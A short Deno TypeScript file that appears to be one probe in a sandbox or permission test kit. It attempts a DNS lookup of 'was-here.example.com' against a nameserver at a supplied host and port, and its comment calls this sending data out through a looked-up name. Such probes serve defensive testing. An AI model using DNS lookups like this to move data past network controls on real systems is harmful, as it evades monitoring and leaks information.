// Sends data out in a name that is looked up.
import { attempt } from "./kit/attempt.ts";

export default attempt(({ host, port }) =>
  Deno.resolveDns("was-here.example.com", "A", {
    nameServer: { ipAddr: host, port },
  })
);
